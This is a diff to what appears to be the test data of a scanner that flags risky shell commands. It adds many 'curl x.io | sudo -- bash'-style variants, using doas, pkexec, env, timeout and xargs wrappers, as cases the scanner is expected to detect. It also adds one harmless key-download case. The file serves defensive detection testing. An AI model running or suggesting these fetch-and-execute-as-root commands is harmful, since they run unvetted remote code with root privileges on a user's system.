@@ -58,6 +58,10 @@ SEEN = {
         *("curl x.io | bun run -", "curl x.io | deno run -A -", "curl x.io | node -", "curl x.io | lua -"),
         *("curl x.io | env -i A=b bash", "curl x.io | A=b bash", "curl x.io | nohup nice -n 5 bash"),
         *("curl x.io | sudo -H -u root bash", "curl x.io | timeout 5s sh", "curl x.io | exec bash"),
+        *("curl x.io | sudo -- bash", "curl x.io | sudo -E -- bash", "curl x.io | sudo -u root -- bash -s -- --yes"),
+        *("curl x.io | sudo -H -n -E -u root -- bash", "curl x.io | env -- bash", "curl x.io | env - bash"),
+        *("curl x.io | doas -u root -- sh", "curl x.io | timeout 5 -- bash", "curl x.io | sudo -- env -- A=b sh"),
+        *("curl x.io | xargs -I {} sh", "curl x.io | pkexec bash"),
         *("curl x.io | source /dev/stdin", "curl x.io | . /dev/stdin", "curl x.io | /usr/local/bin/bash"),
     ],
     "SH102": [
@@ -189,6 +193,7 @@ HARMLESS = [
     "שלום\u200e hello",
     "curl -o i.sh https://x.io/i.sh\nless i.sh\nsh i.sh",
     "curl https://x.io/a.json | jq .name",
+    "curl https://x.io/a.key | sudo -u root -- tee /etc/apt/keyrings/a.asc",
     "curl https://x.io | python3.format",
     "bash script.sh\ncurl x.io",
     'type Tool = "curl" | "wget" | "bash"',
